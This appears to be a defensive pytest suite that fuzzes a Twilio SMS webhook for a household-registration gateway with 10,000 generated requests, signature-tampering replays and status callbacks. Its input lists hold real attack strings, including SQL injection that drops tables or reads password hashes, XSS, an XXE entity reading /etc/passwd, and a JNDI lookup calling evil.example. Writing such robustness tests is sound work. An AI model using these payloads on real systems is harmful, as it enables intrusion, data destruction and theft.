"""Hostile and broken input at POST /sms/twilio (issue #8): 10,000 generated requests, and signed
requests replayed with a parameter changed.

The requests come from a seeded random generator rather than hypothesis: ten thousand of them
must run in well under a minute, and a failure names the request's number, which the same seed
makes again. Each request is signed as Twilio signs: the URL and every form value, as the server
parses them. Twilio sends only UTF-8; for bytes that are not UTF-8 (which the server keeps as the
literal escapes) the test signs what the server reads, so the request gets past the signature
check and into intake, the part under test.
"""
from __future__ import annotations

import random
import time
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from urllib.parse import quote

import pytest
from sqlalchemy import func, select
from twilio.request_validator import RequestValidator
from werkzeug.datastructures import MultiDict
from werkzeug.test import EnvironBuilder
from werkzeug.wrappers import Request

from gateway.models import Household, InboundMessage, Report
from tests import factories
from tests.conftest import AUTH_TOKEN

URL = "http://localhost/sms/twilio"
URLENCODED = "application/x-www-form-urlencoded"
MAX_BODY = 64 * 1024  # the app's MAX_CONTENT_LENGTH
REQUESTS = 10_000
SEED = 8  # the number
VOLUNTEER = "+254712345678"

SQL = ["'; DROP TABLE inbound_messages; --", "1' OR '1'='1", "Robert'); DROP TABLE contacts;--",
       "'; SELECT pg_sleep(10); --", "\\'; DELETE FROM people WHERE 1=1; --", "' UNION SELECT password_hash FROM contacts --"]
MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "]]></Message><Message>owned",
          "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
          "&amp;&lt;&#0;&#xFFFF;", "{{7*7}}{% raw %}", "%s%s%n%x", "${jndi:ldap://evil.example/a}"]
REPORTS = ["HH Juma Ali", "HELP", "help reg", "V 40216", "REG 40216 F 24 Amina", "PREG 51025 12W", "LANG sw",
           "STOP", "START", "户 王伟", "HH <b>Juma</b>", "HH Juma\x00Ali", "HH \ufffe\uffff"]
WEIRD_FROM = ["", " ", "+", "00", "+" + "9" * 30, "9" * 2000, "<script>alert(1)</script>", "' OR 1=1 --",
              "\x00", VOLUNTEER + "\x00", "٠٧١٢٣٤٥٦٧٨", "whatsapp:+254712345678", "client:alice", "😀",
              "tel:+254712345678", "0712 345 678", "+254 712 345 678", "\u202e+254712345678"]
# Escapes that decode to no UTF-8: two bytes never in UTF-8, an overlong '/', an overlong NUL,
# an encoded lone surrogate (U+D800), a code point past U+10FFFF, a lone continuation byte, an
# emoji cut short, and broken or bare '%'.
BAD_ESCAPES = ["%FF%FE", "%C0%AF", "%C0%80", "%E0%80%AF", "%ED%A0%80", "%F4%90%80%80", "%80", "%F0%9F",
               "%", "%zz", "%0", "%%", "%00"]
CHARSETS = [
    "".join(map(chr, range(0x20, 0x7F))),
    "".join(map(chr, range(0x00, 0x20))) + "\x7f\x85\u2028\u2029",  # NUL and the other controls
    "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c\u200b\ufeff",  # direction, invisible
    "٠١٢٣٤٥٦٧٨٩०१२३४५६७८९০১২৩৪৫৬৭৮৯０１２３４５６７８９",  # digits of other scripts
    "李娜王伟户登记怀孕出生危险，。：；",
    "😀😷🤰👶🏽🇰🇪\U0001F9D1\u200d\U0001F37C",  # emoji, some joined
    "éèàçœłșñüßÅØ“”‘’–—…",
    "\ufffd\ufffe\uffff\U0010ffff\ue000\u0301\u0336",  # replacement, non-characters, private use, marks
]
TWILIO_FIELDS = ["AccountSid", "MessagingServiceSid", "NumMedia", "NumSegments", "FromCountry", "ToCountry",
                 "FromCity", "SmsStatus", "ApiVersion"]


@dataclass
class Hostile:
    """One generated request: its raw body, how it is signed, and what the server reads from it."""

    number: int
    raw: bytes
    content_type: str
    signing: str  # good | none | other_token | tampered | garbage
    form: object = None  # the server's MultiDict, when the body is within the limit

    @property
    def sid(self) -> str | None:
        return self.form.get("MessageSid") or self.form.get("SmsSid")

    @property
    def complete(self) -> bool:
        """MessageSid (or SmsSid) and From, as Twilio always sends them; a sid as long as Twilio's."""
        return bool(self.sid) and "From" in self.form and len(self.sid) <= 64


def random_text(rng: random.Random, size: int) -> str:
    charset = rng.choice(CHARSETS)
    if rng.random() < 0.3:
        charset += rng.choice(CHARSETS)
    return "".join(rng.choice(charset) for _ in range(size))


def random_body(rng: random.Random) -> str:
    kind = rng.random()
    if kind < 0.15:
        return rng.choice(REPORTS)
    if kind < 0.25:
        return rng.choice(SQL)
    if kind < 0.35:
        return rng.choice(MARKUP)
    if kind < 0.45:
        return rng.choice(["HH ", "REG 40216 F 24 ", "V 40216 ", "DANGER ", "登记 "]) + random_text(rng, rng.randint(1, 60))
    if kind < 0.5:
        return random_text(rng, rng.randint(1000, 2000))
    return random_text(rng, rng.choice([0, 1, 2, 5, 20, 160, 500]))


def encode(rng: random.Random, value: str) -> str:
    """value percent-encoded as UTF-8; now and then with escapes that are no UTF-8 spliced in."""
    encoded = quote(value, safe="") if rng.random() < 0.9 else value.replace(" ", "+").replace("&", "%26")
    if rng.random() < 0.12:
        at = rng.randint(0, len(encoded))
        while 0 < at < len(encoded) and encoded[at - 1] == "%":
            at -= 1
        encoded = encoded[:at] + rng.choice(BAD_ESCAPES) + encoded[at:]
    return encoded


def random_params(rng: random.Random, number: int) -> list[tuple[str, str]]:
    sid = f"SM{number:032x}"
    weird_sid = rng.random()
    if weird_sid < 0.02:
        sid = sid + "x" * rng.randint(40, 2000)  # longer than any Twilio sid
    elif weird_sid < 0.04:
        sid = "\x00" + sid[1:]
    elif weird_sid < 0.06:
        sid = "СМ" + sid[2:] + "😀"
    sender = VOLUNTEER if rng.random() < 0.3 else rng.choice(WEIRD_FROM) if rng.random() < 0.4 else factories.next_phone()
    params = [("MessageSid", sid), ("SmsSid", sid), ("From", sender), ("To", "+254700111222"),
              ("Body", random_body(rng))]
    params += [(name, random_text(rng, rng.randint(0, 12))) for name in rng.sample(TWILIO_FIELDS, rng.randint(0, 4))]
    for _ in range(rng.choice([0, 0, 0, 1, 2])):  # missing fields
        params = [p for p in params if p[0] != rng.choice(["MessageSid", "SmsSid", "From", "Body", "To"])]
    for _ in range(rng.choice([0, 0, 0, 0, 1, 3])):  # a field twice, its second value different or not
        name = rng.choice(["Body", "From", "MessageSid", "To", "NumMedia"])
        params.insert(rng.randint(0, len(params)), (name, rng.choice([random_body(rng), sender, sid])))
    if rng.random() < 0.03:  # a great many fields
        params += [(f"X{i}", str(rng.randint(0, 99999))) for i in range(rng.randint(300, 3000))]
    if rng.random() < 0.03:  # names as hostile as values
        params += [(random_text(rng, rng.randint(0, 10)), random_body(rng)) for _ in range(rng.randint(1, 5))]
    if rng.random() < 0.02:  # OptOutType, which intake also reads
        params.append(("OptOutType", rng.choice(["STOP", "START", "HELP", "\x00", "stop ", ""])))
    if rng.random() < 0.2:
        rng.shuffle(params)
    return params


def multipart(rng: random.Random, params: list[tuple[str, str]]) -> tuple[bytes, str]:
    """The same fields as multipart/form-data, with raw bytes that are no UTF-8 now and then."""
    boundary = f"hostile{rng.getrandbits(40):x}"
    parts = []
    for name, value in params:
        data = value.encode("utf-8")
        if rng.random() < 0.2:
            data += rng.choice([b"\xff\xfe", b"\xc0\xaf", b"\xed\xa0\x80", b"\x00", b"\x80"])
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
        parts.append(head.encode("utf-8", "replace") + data + b"\r\n")
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def hostile_requests(seed: int, count: int):
    rng = random.Random(seed)
    for number in range(count):
        params = random_params(rng, number)
        shape = rng.random()
        if shape < 0.9:
            raw = "&".join(f"{encode(rng, k)}={encode(rng, v)}" for k, v in params).encode("utf-8")
            content_type = URLENCODED
        elif shape < 0.96:
            raw, content_type = multipart(rng, params)
        elif shape < 0.98:  # raw bytes that are no UTF-8, not escaped: the form cannot be read at all
            raw = b"MessageSid=SM" + rng.randbytes(20) + b"&From=%2B254712345678&Body=\xff\xfe\x00"
            content_type = URLENCODED
        else:  # not a form at all
            raw = rng.choice([b'{"MessageSid": "SM1", "From": "+254712345678"}', b"\x00" * 100, b""])
            content_type = rng.choice(["application/json", "text/plain", URLENCODED])
        if rng.random() < 0.002:
            raw += b"&Pad=" + b"A" * MAX_BODY  # past the body limit
        signing = rng.choices(["good", "none", "other_token", "tampered", "garbage"], [80, 5, 5, 5, 5])[0]
        yield Hostile(number, raw, content_type, signing)


def server_form(raw: bytes, content_type: str):
    """The form as the server parses it: the same werkzeug request parsing Flask uses."""
    environ = EnvironBuilder(method="POST", data=raw, content_type=content_type).get_environ()
    return Request(environ).form


def signature_for(case: Hostile, rng: random.Random) -> str | None:
    # a multipart field werkzeug could not name has nothing Twilio could sign
    params = MultiDict([(k, v) for k, v in case.form.items(multi=True) if k is not None])
    if case.signing == "none":
        return None
    if case.signing == "other_token":
        return RequestValidator("not-the-auth-token").compute_signature(URL, params)
    if case.signing == "garbage":
        return rng.choice(["", "x", "=" * 28, "AAAAAAAAAAAAAAAAAAAAAAAAAAA=", "null", "' OR 1=1 --"])
    if case.signing == "tampered":
        params.add("Body", "HH Tampered")
    return RequestValidator(AUTH_TOKEN).compute_signature(URL, params)


def as_stored(text: str) -> str:
    """PostgreSQL keeps no NUL in text: Fieldline stores U+FFFD in its place, on every database."""
    return text.replace("\x00", "\ufffd")


@pytest.fixture
def volunteer(session):
    return factories.contact(session, phone=VOLUNTEER)


def test_ten_thousand_hostile_requests_get_no_5xx_and_every_signed_message_is_kept(client, session, volunteer):
    rng = random.Random(SEED + 1)
    kept: dict[str, str] = {}  # sid -> the body of the first signed, complete request with it
    refused_sids: set[str] = set()  # sids of requests refused at the signature check
    statuses: dict[int, int] = {}
    started = time.perf_counter()
    for case in hostile_requests(SEED, REQUESTS):
        too_large = len(case.raw) > MAX_BODY
        case.form = server_form(case.raw, case.content_type) if not too_large else None
        signature = signature_for(case, rng) if not too_large else "unused"
        headers = {} if signature is None else {"X-Twilio-Signature": signature}
        response = client.post("/sms/twilio", data=case.raw, content_type=case.content_type, headers=headers)
        status = response.status_code
        statuses[status] = statuses.get(status, 0) + 1
        where = f"request {case.number} ({case.signing}, {case.raw[:120]!r}...)"
        assert status < 500, f"{where}: {status} {response.data[:300]!r}"
        if too_large:  # refused whole, for its size or, unsigned, before it is read
            assert status in (403, 413), where
        elif case.signing != "good" or case.content_type != URLENCODED:  # Twilio posts URL-encoded forms only
            assert status == 403, where
            if case.sid:
                refused_sids.add(as_stored(case.sid))
        elif not case.complete:
            assert status == 400, where
        else:
            assert status == 200, f"{where}: {status}"
            root = ET.fromstring(response.data)  # the TwiML is well-formed XML, whatever came in
            assert root.tag == "Response" and len(root) <= 1, where
            kept.setdefault(as_stored(case.sid), case.form.get("Body", ""))
            if rng.random() < 0.03:  # Twilio's retry of the same request: the same answer
                again = client.post("/sms/twilio", data=case.raw, content_type=case.content_type, headers=headers)
                assert (again.status_code, again.data) == (200, response.data), where
    elapsed = time.perf_counter() - started
    print(f"\n{REQUESTS} hostile requests in {elapsed:.1f} s; statuses {dict(sorted(statuses.items()))}")

    stored = dict(session.execute(select(InboundMessage.provider_id, InboundMessage.body)
                                  .where(InboundMessage.channel == "twilio")).all())
    missing = set(kept) - set(stored)
    assert not missing, f"{len(missing)} signed messages were not kept, e.g. {sorted(missing)[:3]}"
    for sid, body in kept.items():
        assert stored[sid] == as_stored(body), sid  # NUL is kept as U+FFFD, nothing else changes
    assert not (refused_sids - set(kept)) & set(stored), "a request with a bad signature left a message"
    assert len(stored) == len(kept)
    # the run went through every path: refusals of each kind, bad requests, accepted reports, the limit
    assert statuses.get(200, 0) > 5000 and statuses.get(403, 0) > 2000 and statuses.get(400, 0) > 1000
    assert statuses.get(413, 0) > 0
    assert session.scalar(select(func.count()).select_from(Report)) > 50


# -- one request at a time -------------------------------------------------------------------------------

def signed(client, params, *, url: str = URL, path: str = "/sms/twilio"):
    signature = RequestValidator(AUTH_TOKEN).compute_signature(url, params)
    return client.post(path, data=params, headers={"X-Twilio-Signature": signature})


def sms(body: str, sid: str = "SM" + "e" * 32, sender: str = VOLUNTEER) -> dict:
    return {"MessageSid": sid, "SmsSid": sid, "AccountSid": "AC" + "0" * 32, "From": sender,
            "To": "+254700111222", "Body": body, "NumMedia": "0"}


def stored_messages(session) -> list[InboundMessage]:
    session.expire_all()
    return list(session.scalars(select(InboundMessage).order_by(InboundMessage.id)))


def test_nul_in_any_field_is_kept_as_the_replacement_character(client, session, volunteer):
    params = sms("HH Juma\x00Ali", sid="SM\x00" + "f" * 31, sender=VOLUNTEER)
    params["To"] = "+254700\x00111222"
    response = signed(client, params)
    assert response.status_code == 200
    (message,) = stored_messages(session)
    assert (message.provider_id, message.body, message.receiver) == ("SM\ufffd" + "f" * 31, "HH Juma\ufffdAli",
                                                                     "+254700\ufffd111222")
    # the parser reads NUL as it reads any control character: as a space between words
    assert session.scalar(select(Household.head_name)) == "Juma Ali"
    assert "Household of Juma Ali registered" in response.get_data(as_text=True)
    # a retry of it is recognised, though what is stored is no longer what came
    assert signed(client, params).data == response.data
    assert len(stored_messages(session)) == 1


def test_nul_in_the_sender_is_kept_and_answered(client, session):
    response = signed(client, sms("HELP", sender="+2547\x00"))
    assert response.status_code == 200
    (message,) = stored_messages(session)
    assert message.sender == "+2547\ufffd" and message.status.value == "ignored"


def test_a_sid_longer_than_twilios_is_a_bad_request_and_nothing_is_stored(client, session):
    assert signed(client, sms("HELP", sid="SM" + "a" * 63)).status_code == 400
    assert signed(client, sms("HELP", sid="SM" + "a" * 62)).status_code == 200
    assert [m.provider_id for m in stored_messages(session)] == ["SM" + "a" * 62]


@pytest.mark.parametrize("content_type, data", [
    ("multipart/form-data", None),
    ("application/json", b'{"MessageSid": "SM1", "From": "+254712345678", "Body": "HELP"}'),
    ("text/plain", b"MessageSid=SM1&From=%2B254712345678&Body=HELP"),
])
def test_a_body_twilio_never_sends_is_refused_signed_or_not(client, session, content_type, data):
    params = sms("HELP")
    signature = RequestValidator(AUTH_TOKEN).compute_signature(URL, params)
    if data is None:
        response = client.post("/sms/twilio", data=params, content_type=content_type,
                               headers={"X-Twilio-Signature": signature})
    else:
        response = client.post("/sms/twilio", data=data, content_type=content_type,
                               headers={"X-Twilio-Signature": signature})
    assert response.status_code == 403
    assert stored_messages(session) == []


def test_a_multipart_field_without_a_name_is_refused_not_a_crash(client, session):
    body = (b'--b\r\nContent-Disposition: form-data; name="MessageSid"\r\n\r\nSM1\r\n'
            b"--b\r\nContent-Disposition: form-data\r\n\r\nno name\r\n--b--\r\n")
    response = client.post("/sms/twilio", data=body, content_type="multipart/form-data; boundary=b",
                           headers={"X-Twilio-Signature": "x"})
    assert response.status_code == 403


@pytest.mark.parametrize("raw", [b"%FF%FE", b"%C0%AF", b"%ED%A0%80", b"%F4%90%80%80", b"%80abc", b"%"])
def test_escapes_that_are_no_utf8_are_kept_as_typed(client, session, raw):
    body = b"MessageSid=SM" + b"d" * 32 + b"&From=%2B254712345678&Body=HH+" + raw
    form = server_form(body, URLENCODED)
    signature = RequestValidator(AUTH_TOKEN).compute_signature(URL, form)
    response = client.post("/sms/twilio", data=body, content_type=URLENCODED, headers={"X-Twilio-Signature": signature})
    assert response.status_code == 200
    (message,) = stored_messages(session)
    assert message.body == "HH " + raw.decode("ascii")


@pytest.mark.parametrize("body", ["DANGER \ufffe\uffff", "HH \uffff", "HH \x1b\x7f\x85"])
def test_twiml_is_well_formed_whatever_the_reply_quotes(client, volunteer, body):
    response = signed(client, sms(body))
    assert response.status_code == 200
    root = ET.fromstring(response.data)
    assert root.tag == "Response" and root.find("Message").text


# -- a captured request replayed with a change: refused, and nothing is stored ------------------------------

def _added(params):
    return {**params, "MediaUrl0": "https://evil.example/x.jpg"}


def _repeated_body(params):
    changed = MultiDict(params)
    changed.add("Body", "HH Someone Else")
    return changed


def _dropped_to(params):
    return {k: v for k, v in params.items() if k != "To"}


REPLAYS = {
    "Body": lambda p: {**p, "Body": "HH Someone Else"},
    "From": lambda p: {**p, "From": "+254712000999"},
    "To": lambda p: {**p, "To": "+254700999999"},
    "MessageSid": lambda p: {**p, "MessageSid": "SM" + "9" * 32, "SmsSid": "SM" + "9" * 32},
    "added": _added,
    "repeated": _repeated_body,  # a second Body after the signed one
    "dropped": _dropped_to,
    "case": lambda p: {**p, "Body": p["Body"].upper()},
}


@pytest.mark.parametrize("change", list(REPLAYS))
def test_replay_with_one_parameter_changed_is_refused_and_nothing_is_stored(client, session, volunteer, change):
    params = sms("HH Juma Ali")
    signature = RequestValidator(AUTH_TOKEN).compute_signature(URL, params)
    replay = REPLAYS[change](params)
    response = client.post("/sms/twilio", data=replay, headers={"X-Twilio-Signature": signature})
    assert response.status_code == 403
    assert stored_messages(session) == []
    assert session.scalar(select(func.count()).select_from(Household)) == 0
    # the request as captured still passes: the change, not the replay, is what was refused
    assert client.post("/sms/twilio", data=params, headers={"X-Twilio-Signature": signature}).status_code == 200


def test_replay_to_another_url_is_refused(client, session, volunteer):
    params = sms("HH Juma Ali")
    signature = RequestValidator(AUTH_TOKEN).compute_signature(URL, params)
    response = client.post("/sms/twilio?site=other", data=params, headers={"X-Twilio-Signature": signature})
    assert response.status_code == 403
    assert stored_messages(session) == []


# -- status callbacks: the same hostility at /sms/twilio/status ---------------------------------------------

STATUS_URL = "http://localhost/sms/twilio/status"
STATUS_WORDS = ["queued", "sent", "delivered", "undelivered", "failed", "read", " Delivered ", "DELIVERED\x00",
                "delivered" + " " * 2000, "", "\x00", "<script>", "'; DROP TABLE outgoing_messages; --", "😀"]
ERROR_CODES = ["", "30003", "21610", "30001", "\x00", "3000\x00", "9" * 2000, "-1", "١٢٣", "<b>", None]


def test_a_thousand_hostile_status_callbacks_get_no_5xx_and_move_a_message_only_forward(client, session, clock):
    from gateway.delivery import RANK, mark_sent
    from gateway.models import OutgoingKind, OutgoingMessage, OutgoingStatus
    from gateway.outbox import set_status

    now = clock.now()
    message = OutgoingMessage(channel="twilio", to=VOLUNTEER, body="Due: ANC", kind=OutgoingKind.reminder,
                              created_at=now, updated_at=now, attempts=1)
    set_status(message, OutgoingStatus.queued, now)
    known_sid = "SM" + "5" * 32
    mark_sent(message, known_sid, now)
    session.add(message)
    session.commit()
    rng = random.Random(SEED)
    rank = RANK[message.status]
    for number in range(1000):
        params = {"MessageSid": rng.choice([known_sid, known_sid + "\x00", "SM" + "6" * 32, "\x00", "S" * 65, ""]),
                  "MessageStatus": rng.choice(STATUS_WORDS), "AccountSid": "AC" + "0" * 32}
        code = rng.choice(ERROR_CODES)
        if code is not None:
            params["ErrorCode"] = code
        if rng.random() < 0.1:
            del params[rng.choice(["MessageSid", "MessageStatus"])]
        response = signed(client, params, url=STATUS_URL, path="/sms/twilio/status")
        where = f"callback {number}: {params!r}"[:300]
        assert response.status_code < 500, where
        complete = params.get("MessageSid") and params.get("MessageStatus") and len(params["MessageSid"]) <= 64
        assert response.status_code == (200 if complete else 400), where
        session.expire_all()
        status = session.get(OutgoingMessage, message.id).status
        assert RANK[status] >= rank or status is OutgoingStatus.retrying, where  # 30001: sent again
        rank = RANK[status]
    assert session.get(OutgoingMessage, message.id).status is not OutgoingStatus.sent  # some callback landed
